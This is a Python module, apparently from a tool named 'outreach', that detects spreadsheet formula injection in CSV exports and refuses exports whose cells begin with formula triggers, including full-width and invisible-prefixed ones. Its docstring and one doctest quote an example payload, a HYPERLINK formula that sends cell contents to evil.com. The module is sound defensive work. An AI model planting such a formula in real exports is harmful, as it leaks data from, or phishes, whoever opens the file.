"""Spreadsheet formula injection: no CSV cell that a spreadsheet would run leaves outreach.

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, in some versions, a tab or carriage return before one) as a formula, and run it when the
CSV is opened: ``=HYPERLINK("https://evil.com/?"&A1, "Sign")`` in a translation would turn
an organizer's content calendar into a phishing link or a data leak (CWE-1236).

The usual cure, prefixing the cell with ``'``, alters the post: schedulers import the
apostrophe as text and publish it. A post may also start with these characters for good
reasons (an ``@mention``, ``+1``, ``-50%``). outreach therefore **refuses** the export and
names the post, rather than publish something the organizer did not write; the organizer
starts the post differently (a word before the mention, for instance) and exports again.
Full-width forms (``＝ ＋ － ＠``), which some spreadsheets also accept, count too, as does a
trigger after leading spaces, line breaks or invisible characters (any space separator,
control or format character: a no-break space, U+3000, a zero-width space, a byte order
mark...), which a spreadsheet may drop before it looks at the cell and an organizer cannot
see.

>>> formula_trigger("=HYPERLINK(\\"https://evil.com\\")")
'='
>>> formula_trigger("@iocmedia, stand by your charter") is not None
True
>>> formula_trigger("Love always wins. #LoveAlwaysWins") is None
True
"""

from __future__ import annotations

import functools
import importlib
from collections.abc import Iterable, Sequence
from typing import Any

__all__ = ["FORMULA_TRIGGERS", "formula_problems", "formula_trigger"]

#: Characters that make a spreadsheet read a cell as a formula when they come first.
FORMULA_TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")

_NAMES = {
    "\t": "a tab",
    "\r": "a carriage return",
    "\uff1d": "“＝”",
    "\uff0b": "“＋”",
    "\uff0d": "“－”",
    "\uff20": "“＠”",
}


def formula_trigger(cell: str) -> str | None:
    r"""The character that would make a spreadsheet run ``cell`` as a formula, or ``None``.

    Leading spaces and invisible characters (Unicode categories Zs, Zl, Zp, Cc and Cf, and
    default-ignorable code points such as U+3164) are skipped first, except a tab or a carriage
    return, which are triggers themselves.

    >>> formula_trigger("\u00a0\u200b=1+1"), formula_trigger(" \t=1"), formula_trigger("\ufeffHi")
    ('=', '\t', None)
    """
    index = _skipped(cell)
    if index < len(cell) and cell[index] in FORMULA_TRIGGERS:
        return cell[index]
    return None


def _skipped(cell: str) -> int:
    """How many leading characters of ``cell`` a spreadsheet may ignore: spaces, line breaks
    and invisible characters, up to a tab or a carriage return."""
    return int(_invisible_run().match(cell).end())


@functools.cache
def _invisible_run() -> Any:
    # Zs Zl Zp Cc Cf, and what Unicode says to render as nothing (Default_Ignorable_Code_Point:
    # U+034F, variation selectors, U+3164 HANGUL FILLER...), but not a tab or a CR.
    rx: Any = importlib.import_module("regex")
    return rx.compile(
        r"[\p{Zs}\p{Zl}\p{Zp}\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}--[\t\r]]*", rx.V1
    )


def formula_problems(rows: Iterable[tuple[str, Sequence[str], Sequence[str]]]) -> list[str]:
    """One sentence per cell that a spreadsheet would run as a formula.

    ``rows`` holds ``(where, header, cells)``: ``where`` names the post (``share (es, x)``),
    ``header`` the columns' names.

    >>> formula_problems([("share (es, x)", ["date", "text"], ["2026", "=1+1"])])
    ['share (es, x): the text starts with “=”, which a spreadsheet would run as a formula; \
outreach does not alter posts: start it with a word or a letter instead']
    """
    problems: list[str] = []
    for where, header, cells in rows:
        for name, cell in zip(header, cells, strict=True):
            trigger = formula_trigger(cell)
            if trigger is None:
                continue
            shown = _NAMES.get(trigger, f"“{trigger}”")
            hidden = cell[: _skipped(cell)]
            if hidden:
                codes = ", ".join(dict.fromkeys(f"U+{ord(c):04X}" for c in hidden))
                shown += f" after leading spaces or invisible characters ({codes})"
            column = "text" if name.lower() in _TEXT_COLUMNS else f"{name} cell"
            advice = " (put a word before the mention)" if trigger in "@\uff20" else ""
            problems.append(
                f"{where}: the {column} starts with {shown}, which a spreadsheet would run as a "
                "formula; outreach does not alter posts: start it with a word or a letter "
                f"instead{advice}"
            )
    return problems


_TEXT_COLUMNS = {"text", "message_text", "message"}
